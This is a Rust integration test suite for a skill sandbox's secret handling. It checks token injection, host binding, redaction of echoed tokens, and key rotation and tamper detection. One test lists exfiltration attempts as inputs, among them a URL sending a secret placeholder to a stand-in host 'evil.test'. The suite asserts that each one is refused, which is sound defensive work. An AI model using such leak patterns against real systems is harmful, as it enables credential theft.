//! Secrets end to end: a skill that calls an API with a bearer token it
//! never sees, and the attacks a skill (or a hostile server) would try. Data
//! dirs and captured CLI output stay under `target/test-artifacts/` so the
//! test command can scan them for the token afterwards.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::{Value, json};
use skillhost::registry::Narrowing;
use skillhost::secrets::MasterKey;
use skillhost::{Added, HostConfig, SkillHost, codes};
use zeroize::Zeroizing;

use crate::common::*;
use crate::egress::{egress_config, json_api, net};
use crate::servers::TEST_TOKEN;

const API: &str = "https://json-api.test:47443";

/// A kept data dir under target/test-artifacts.
fn artifacts(name: &str) -> PathBuf {
    let dir = repo_root()
        .join("target/test-artifacts")
        .join(format!("secrets-{name}"));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

fn config() -> HostConfig {
    HostConfig {
        egress: egress_config(&net().ca_file, true),
        ..HostConfig::default()
    }
}

/// A host with a key, and bearer-client approved with `narrowing`.
async fn setup(dir: &Path, narrowing: Narrowing) -> SkillHost {
    MasterKey::generate()
        .write_new(&dir.join("master.key"))
        .unwrap();
    let host = SkillHost::open(&config(), dir).await.unwrap();
    let Added::Pending(v) = host
        .add(&skill_bytes("bearer_client"), "owner")
        .await
        .unwrap()
    else {
        panic!()
    };
    assert_eq!(v.declared.requested.secrets, ["API_TOKEN"]);
    host.approve("bearer-client", &v.digest, &narrowing, "owner")
        .await
        .unwrap();
    host
}

async fn set_token(host: &SkillHost, bound_to: &str) {
    host.set_secret(
        "bearer-client",
        "API_TOKEN",
        Zeroizing::new(TEST_TOKEN.into()),
        &[bound_to.into()],
        "owner",
    )
    .await
    .unwrap();
}

async fn call(host: &SkillHost, input: Value) -> Value {
    let inv = host
        .invoke("bearer-client", &input.to_string(), "agent")
        .await
        .unwrap();
    output(&inv)
}

/// The API path with the marker `m=secrets-<label>` in its query.
fn marked(label: &str) -> String {
    format!("/v1/private?m=secrets-{label}")
}

/// Requests with the marker `m=secrets-<label>` that reached any test server of
/// this process. Unlike a server's hit counter, parallel tests do not move
/// it.
fn sent(label: &str) -> usize {
    crate::servers::requests_containing(&format!("m=secrets-{label}"))
}

fn assert_no_token(what: &str, text: &str) {
    use base64::Engine as _;
    for form in [
        TEST_TOKEN.to_string(),
        base64::engine::general_purpose::STANDARD.encode(TEST_TOKEN),
        hex::encode(TEST_TOKEN),
    ] {
        assert!(
            !text.contains(&form),
            "{what} leaks the token as {form}: {text}"
        );
    }
}

#[tokio::test]
async fn the_host_injects_a_token_the_skill_never_sees() {
    let _api = json_api();
    let dir = artifacts("inject");
    let host = setup(&dir, Narrowing::default()).await;

    // Not set yet: refused, nothing sent.
    let out = call(&host, json!({ "path": marked("inject-unset") })).await;
    assert_eq!(out["refused"], codes::SECRET_NOT_SET, "{out}");
    assert_eq!(sent("inject-unset"), 0);

    set_token(&host, API).await;
    let out = call(&host, json!({"path": "/v1/private"})).await;
    assert_eq!(out["status"], 200, "{out}");
    assert_eq!(out["body"], r#"{"user":"alice"}"#);
    assert_no_token("output", &out.to_string());

    let egress: Vec<Value> = audit_records(&dir)
        .into_iter()
        .filter(|r| r["type"] == "egress")
        .collect();
    let last = egress.last().unwrap();
    assert_eq!(last["code"], "ok");
    assert_eq!(
        last["detail"]["secrets"],
        json!(["API_TOKEN"]),
        "secret use is audited by name"
    );
}

#[tokio::test]
async fn attacks_from_inside_the_sandbox_are_refused() {
    let _api = json_api();
    let dir = artifacts("attacks");
    let host = setup(&dir, Narrowing::default()).await;
    set_token(&host, API).await;
    // Every case carries the marker `m=secrets-attacks`, so a request that got
    // through would be counted whatever else runs in parallel.
    let cases = [
        // To a host that is not granted, with the placeholder in the path.
        (
            json!({"url": "https://evil.test/{{secret:API_TOKEN}}?m=secrets-attacks"}),
            codes::EGRESS_HOST_NOT_ALLOWED,
        ),
        // The placeholder in the path of the granted host.
        (
            json!({"url": format!("{API}/leak/{{{{secret:API_TOKEN}}}}?m=secrets-attacks")}),
            codes::SECRET_BAD_PLACEHOLDER,
        ),
        // ... or in the query.
        (
            json!({"url": format!("{API}/v1/private?t={{{{secret:API_TOKEN}}}}&m=secrets-attacks")}),
            codes::SECRET_BAD_PLACEHOLDER,
        ),
        // Over plain http (not granted for http at all).
        (
            json!({"url": "http://json-api.test:47443/v1/private?m=secrets-attacks"}),
            codes::EGRESS_SCHEME_NOT_ALLOWED,
        ),
        // Nested, unterminated and unknown placeholders.
        (
            json!({"header": "{{secret:{{secret:API_TOKEN}}}}", "path": marked("attacks")}),
            codes::SECRET_BAD_PLACEHOLDER,
        ),
        (
            json!({"header": "Bearer {{secret:API_TOKEN", "path": marked("attacks")}),
            codes::SECRET_BAD_PLACEHOLDER,
        ),
        (
            json!({"header": "Bearer {{secret:OTHER_TOKEN}}", "path": marked("attacks")}),
            codes::SECRET_NOT_GRANTED,
        ),
        (
            json!({"header": "Bearer {{secret:api_token}}", "path": marked("attacks")}),
            codes::SECRET_BAD_PLACEHOLDER,
        ),
    ];
    for (input, code) in cases {
        let out = call(&host, input.clone()).await;
        assert_eq!(out["refused"], code, "{input}: {out}");
    }
    assert_eq!(sent("attacks"), 0, "nothing may be sent");
}

#[tokio::test]
async fn a_secret_goes_only_where_it_is_bound() {
    let _api = json_api();
    let dir = artifacts("unbound");
    let host = setup(&dir, Narrowing::default()).await;
    // Bound to another host: the skill's granted API is not a destination
    // for this secret.
    set_token(&host, "https://api.test:47443").await;
    let out = call(&host, json!({ "path": marked("unbound") })).await;
    assert_eq!(
        out["refused"],
        codes::SECRET_DESTINATION_NOT_ALLOWED,
        "{out}"
    );
    assert_eq!(sent("unbound"), 0);

    // Approved without the secret: not granted, whatever is set.
    let dir = artifacts("not-granted");
    let none = Narrowing {
        secrets: Some(vec![]),
        ..Narrowing::default()
    };
    let host = setup(&dir, none).await;
    set_token(&host, API).await;
    let out = call(&host, json!({})).await;
    assert_eq!(out["refused"], codes::SECRET_NOT_GRANTED, "{out}");

    // Another skill's secret of the same name is not this skill's.
    let dir = artifacts("other-skill");
    let host = setup(&dir, Narrowing::default()).await;
    host.set_secret(
        "item-stats",
        "API_TOKEN",
        Zeroizing::new(TEST_TOKEN.into()),
        &[API.into()],
        "owner",
    )
    .await
    .unwrap();
    let out = call(&host, json!({})).await;
    assert_eq!(out["refused"], codes::SECRET_NOT_SET, "{out}");
}

#[tokio::test]
async fn reflected_and_echoed_secrets_are_redacted_and_audited() {
    let dir = artifacts("redact");
    let host = setup(&dir, Narrowing::default()).await;
    set_token(&host, API).await;

    // A server that reflects the credential raw, in base64, in hex and as
    // Basic auth.
    let out = call(&host, json!({"path": "/reflect"})).await;
    assert_eq!(out["status"], 200, "{out}");
    assert_no_token("reflected body", &out.to_string());
    let body: Value = serde_json::from_str(out["body"].as_str().unwrap()).unwrap();
    for field in ["raw", "b64", "b64_token", "hex", "basic"] {
        assert!(
            body[field]
                .as_str()
                .unwrap()
                .contains("[REDACTED:API_TOKEN]"),
            "{field}: {body}"
        );
    }

    // The skill repeats the value (handed to it by its caller) into its
    // output, its logs and stdout, and its error.
    let inv = host
        .invoke(
            "bearer-client",
            &json!({"say": TEST_TOKEN}).to_string(),
            "agent",
        )
        .await
        .unwrap();
    assert_no_token("output", inv.result.as_ref().unwrap());
    for log in &inv.logs {
        assert_no_token("log", &log.message);
    }
    let inv = host
        .invoke(
            "bearer-client",
            &json!({"say": TEST_TOKEN, "fail": true}).to_string(),
            "agent",
        )
        .await
        .unwrap();
    let err = inv.result.unwrap_err();
    assert_eq!(err.code(), codes::SKILL_ERROR);
    assert_no_token("error", &err.to_json().to_string());

    let redacted: Vec<Value> = audit_records(&dir)
        .into_iter()
        .filter(|r| r["type"] == "secret.redacted")
        .collect();
    let places: std::collections::BTreeSet<&str> = redacted
        .iter()
        .map(|r| r["detail"]["location"].as_str().unwrap())
        .collect();
    for place in ["response_body", "output", "log", "error"] {
        assert!(
            places.contains(place),
            "no secret.redacted for {place}: {places:?}"
        );
    }
    assert!(
        redacted
            .iter()
            .all(|r| r["detail"]["secret"] == "API_TOKEN")
    );
}

#[tokio::test]
async fn a_wrong_master_key_is_clear_and_destroys_nothing() {
    let _api = json_api();
    let dir = artifacts("wrong-key");
    let host = setup(&dir, Narrowing::default()).await;
    set_token(&host, API).await;
    drop(host);
    let db = dir.join("registry.db");
    let rows = |db: &Path| -> Vec<(Vec<u8>, Vec<u8>)> {
        let conn = rusqlite::Connection::open(db).unwrap();
        let mut stmt = conn
            .prepare("SELECT nonce, ciphertext FROM secrets ORDER BY skill, name")
            .unwrap();
        stmt.query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
            .unwrap()
            .map(|r| r.unwrap())
            .collect()
    };
    let before = rows(&db);

    let key_file = dir.join("master.key");
    let good_key = std::fs::read(&key_file).unwrap();
    std::fs::remove_file(&key_file).unwrap();
    MasterKey::generate().write_new(&key_file).unwrap();
    let host = SkillHost::open(&config(), &dir).await.unwrap();
    let out = call(&host, json!({ "path": marked("wrong-key") })).await;
    assert_eq!(out["refused"], codes::SECRET_WRONG_KEY, "{out}");
    assert_eq!(sent("wrong-key"), 0);
    let listed = host.list_secrets(None).unwrap();
    assert!(listed[0].mask.contains("secret.wrong_key"), "{listed:?}");
    drop(host);
    assert_eq!(rows(&db), before, "nothing was re-encrypted or destroyed");

    // With the right key again, everything works.
    std::fs::remove_file(&key_file).unwrap();
    std::fs::write(&key_file, good_key).unwrap();
    let mut perms = std::fs::metadata(&key_file).unwrap().permissions();
    std::os::unix::fs::PermissionsExt::set_mode(&mut perms, 0o600);
    std::fs::set_permissions(&key_file, perms).unwrap();
    let host = SkillHost::open(&config(), &dir).await.unwrap();
    assert_eq!(call(&host, json!({})).await["status"], 200);
}

#[tokio::test]
async fn a_ciphertext_moved_to_another_row_fails_authentication() {
    let dir = artifacts("moved");
    let host = setup(&dir, Narrowing::default()).await;
    set_token(&host, API).await;
    host.set_secret(
        "bearer-client",
        "OTHER_TOKEN",
        Zeroizing::new("another-value-123".into()),
        &[API.into()],
        "owner",
    )
    .await
    .unwrap();
    drop(host);
    // Copy API_TOKEN's sealed value over OTHER_TOKEN's, and OTHER's over API's.
    let conn = rusqlite::Connection::open(dir.join("registry.db")).unwrap();
    conn.execute_batch(
        "UPDATE secrets SET nonce = (SELECT nonce FROM secrets WHERE name = 'OTHER_TOKEN'),
                            ciphertext = (SELECT ciphertext FROM secrets WHERE name = 'OTHER_TOKEN')
         WHERE name = 'API_TOKEN';",
    )
    .unwrap();
    drop(conn);
    let host = SkillHost::open(&config(), &dir).await.unwrap();
    let out = call(&host, json!({})).await;
    assert_eq!(out["refused"], codes::SECRET_DECRYPT_FAILED, "{out}");
}

/// The stored form of a destination list, as `secret set` writes it.
fn hosts_column(hosts: &[&str]) -> String {
    let normalised: Vec<String> = hosts
        .iter()
        .map(|h| skillhost::egress::Rule::parse(h).unwrap().to_string())
        .collect();
    serde_json::to_string(&normalised).unwrap()
}

#[tokio::test]
async fn a_secret_rebound_to_another_host_in_the_database_is_refused() {
    let _api = json_api();
    let dir = artifacts("rebound");
    let host = setup(&dir, Narrowing::default()).await;
    // Bound to a host the skill may not reach; the skill's API is granted.
    set_token(&host, "https://api.test:47443").await;
    drop(host);
    // Someone who can edit registry.db, without the master key, rebinds the
    // secret to the skill's API.
    let conn = rusqlite::Connection::open(dir.join("registry.db")).unwrap();
    let changed = conn
        .execute(
            "UPDATE secrets SET hosts = ?1 WHERE name = 'API_TOKEN'",
            [hosts_column(&[API])],
        )
        .unwrap();
    assert_eq!(changed, 1);
    drop(conn);

    let host = SkillHost::open(&config(), &dir).await.unwrap();
    // api.test and json-api.test both resolve to this one server.
    let out = call(&host, json!({ "path": marked("rebound") })).await;
    assert_eq!(out["refused"], codes::SECRET_DECRYPT_FAILED, "{out}");
    let out = call(
        &host,
        json!({"url": "https://api.test:47443/v1/private?m=secrets-rebound"}),
    )
    .await;
    assert_eq!(out["refused"], codes::EGRESS_HOST_NOT_ALLOWED, "{out}");
    assert_eq!(sent("rebound"), 0, "nothing may be sent to either host");
    let listed = host.list_secrets(None).unwrap();
    assert!(
        listed[0].mask.contains(codes::SECRET_DECRYPT_FAILED),
        "{listed:?}"
    );
}

#[tokio::test]
async fn rotate_key_upgrades_a_row_sealed_before_bindings_were_authenticated() {
    use skillhost::secrets::crypto;

    let _api = json_api();
    let dir = artifacts("legacy");
    let host = setup(&dir, Narrowing::default()).await;
    set_token(&host, API).await;
    drop(host);
    // Re-seal the row as an older skillhost did: AAD over (skill, name,
    // version) only.
    let key = MasterKey::from_file(&dir.join("master.key")).unwrap();
    let conn = rusqlite::Connection::open(dir.join("registry.db")).unwrap();
    let version: i64 = conn
        .query_row(
            "SELECT version FROM secrets WHERE name = 'API_TOKEN'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    let (nonce, ciphertext) = crypto::seal(
        &key,
        TEST_TOKEN.as_bytes(),
        &crypto::aad_v1("bearer-client", "API_TOKEN", version),
    );
    conn.execute(
        "UPDATE secrets SET nonce = ?1, ciphertext = ?2 WHERE name = 'API_TOKEN'",
        rusqlite::params![nonce.to_vec(), ciphertext],
    )
    .unwrap();
    drop(conn);

    // Its destinations are unauthenticated: refused, with the reason.
    let host = SkillHost::open(&config(), &dir).await.unwrap();
    let out = call(&host, json!({ "path": marked("legacy") })).await;
    assert_eq!(out["refused"], codes::SECRET_DECRYPT_FAILED, "{out}");
    assert_eq!(sent("legacy"), 0);
    let mask = &host.list_secrets(None).unwrap()[0].mask;
    assert!(
        mask.contains(codes::SECRET_DECRYPT_FAILED)
            && mask.contains("before its destinations were authenticated")
            && mask.contains("rotate-key"),
        "{mask}"
    );

    // One owner command re-seals it (the same key will do), and it works.
    assert_eq!(host.rotate_key(&key, "owner").await.unwrap(), 1);
    let out = call(&host, json!({})).await;
    assert_eq!(out["status"], 200, "{out}");
    let mask = &host.list_secrets(None).unwrap()[0].mask;
    assert!(mask.starts_with("****"), "{mask}");
}

fn cli(dir: &Path) -> Command {
    skillhost_cli(dir)
}

/// Run, keep stdout and stderr under the artifacts dir, return them.
fn run_kept(
    dir: &Path,
    label: &str,
    c: &mut Command,
    stdin: Option<&str>,
) -> (bool, String, String) {
    let mut child = c
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    {
        use std::io::Write;
        let mut input = child.stdin.take().unwrap();
        if let Some(s) = stdin {
            input.write_all(s.as_bytes()).unwrap();
        }
    }
    let out = child.wait_with_output().unwrap();
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    );
    std::fs::write(
        dir.join(format!("cli-{label}.out")),
        format!("{stdout}\n---\n{stderr}"),
    )
    .unwrap();
    (out.status.success(), stdout, stderr)
}

#[test]
fn owner_cli_secret_workflow_never_prints_the_value() {
    let _ = json_api();
    let dir = artifacts("cli");
    let data = dir.join("data");
    std::fs::write(dir.join("skillhost.toml"), config().to_toml()).unwrap();
    let with_config = |c: &mut Command| {
        c.arg("--config").arg(dir.join("skillhost.toml"));
    };
    let mut c = cli(&data);
    c.args(["secret", "init-key"]);
    assert!(run_kept(&dir, "init", &mut c, None).0);
    let mut c = cli(&data);
    c.args(["skill", "add"]).arg(skill_path("bearer_client"));
    assert!(run_kept(&dir, "add", &mut c, None).0);
    let digest = skillhost::ModuleDigest::of(&skill_bytes("bearer_client")).to_string();
    let mut c = cli(&data);
    c.args(["skill", "approve", "bearer-client", "--digest", &digest]);
    assert!(run_kept(&dir, "approve", &mut c, None).0);

    // The value comes from stdin, never argv.
    let mut c = cli(&data);
    c.args([
        "secret",
        "set",
        "bearer-client",
        "API_TOKEN",
        "--allow-host",
        API,
    ]);
    let (ok, _, stderr) = run_kept(&dir, "set", &mut c, Some(&format!("{TEST_TOKEN}\n")));
    assert!(ok, "{stderr}");
    // Refusals are clear.
    let mut c = cli(&data);
    c.args([
        "secret",
        "set",
        "bearer-client",
        "API_TOKEN",
        "--allow-host",
        "http://json-api.test:47443",
    ]);
    let (ok, _, stderr) = run_kept(&dir, "set-http", &mut c, Some("another-long-value"));
    assert!(
        !ok && stderr.contains(codes::SECRET_INVALID) && stderr.contains("https"),
        "{stderr}"
    );

    let mut c = cli(&data);
    c.args(["secret", "list", "--json"]);
    let (ok, stdout, _) = run_kept(&dir, "list", &mut c, None);
    assert!(ok);
    let list: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(
        list[0]["mask"],
        format!("****{}", &TEST_TOKEN[TEST_TOKEN.len() - 4..])
    );
    assert_eq!(list[0]["hosts"], json!(["https://json-api.test:47443"]));

    let mut c = cli(&data);
    with_config(&mut c);
    c.args([
        "invoke",
        "bearer-client",
        "--input",
        &json!({"path": "/reflect", "say": TEST_TOKEN}).to_string(),
    ]);
    let (ok, stdout, stderr) = run_kept(&dir, "invoke", &mut c, None);
    assert!(ok, "{stderr}");
    assert!(stdout.contains("[REDACTED:API_TOKEN]"), "{stdout}");

    // Rotate to a new key in one transaction; the old key then fails clearly
    // and the new one works.
    let new_key = dir.join("new.key");
    let mut c = cli(&data);
    c.args(["secret", "init-key", "--key-file"]).arg(&new_key);
    assert!(run_kept(&dir, "init-new", &mut c, None).0);
    let mut c = cli(&data);
    c.args(["secret", "rotate-key", "--new-key-file"])
        .arg(&new_key);
    let (ok, stdout, stderr) = run_kept(&dir, "rotate", &mut c, None);
    assert!(
        ok && stdout.contains("re-encrypted 1 secret"),
        "{stdout}{stderr}"
    );
    let mut c = cli(&data);
    c.args(["secret", "list", "--json"]);
    let (_, stdout, _) = run_kept(&dir, "list-old-key", &mut c, None);
    assert!(stdout.contains("secret.wrong_key"), "{stdout}");
    std::fs::remove_file(data.join("master.key")).unwrap();
    std::fs::rename(&new_key, data.join("master.key")).unwrap();
    let mut c = cli(&data);
    with_config(&mut c);
    c.args([
        "invoke",
        "bearer-client",
        "--input",
        r#"{"path":"/v1/private"}"#,
    ]);
    let (ok, stdout, stderr) = run_kept(&dir, "invoke-new-key", &mut c, None);
    assert!(ok && stdout.contains("alice"), "{stdout}{stderr}");

    let mut c = cli(&data);
    c.args(["secret", "rm", "bearer-client", "API_TOKEN"]);
    assert!(run_kept(&dir, "rm", &mut c, None).0);

    // Nothing the CLI printed and nothing in the data dir holds the token.
    scan_for_token(&dir);
}

/// Every file under `dir` (audit segments, the database, captured output).
pub fn scan_for_token(dir: &Path) {
    use base64::Engine as _;
    let forms = [
        TEST_TOKEN.as_bytes().to_vec(),
        base64::engine::general_purpose::STANDARD
            .encode(TEST_TOKEN)
            .into_bytes(),
        hex::encode(TEST_TOKEN).into_bytes(),
    ];
    let mut stack = vec![dir.to_path_buf()];
    let mut files = 0;
    while let Some(p) = stack.pop() {
        if p.is_dir() {
            for e in std::fs::read_dir(&p).unwrap() {
                stack.push(e.unwrap().path());
            }
        } else if let Ok(bytes) = std::fs::read(&p) {
            files += 1;
            for f in &forms {
                assert!(
                    !bytes.windows(f.len()).any(|w| w == &f[..]),
                    "{} holds the token",
                    p.display()
                );
            }
        }
    }
    assert!(files > 3, "the scan must see the artifacts");
}
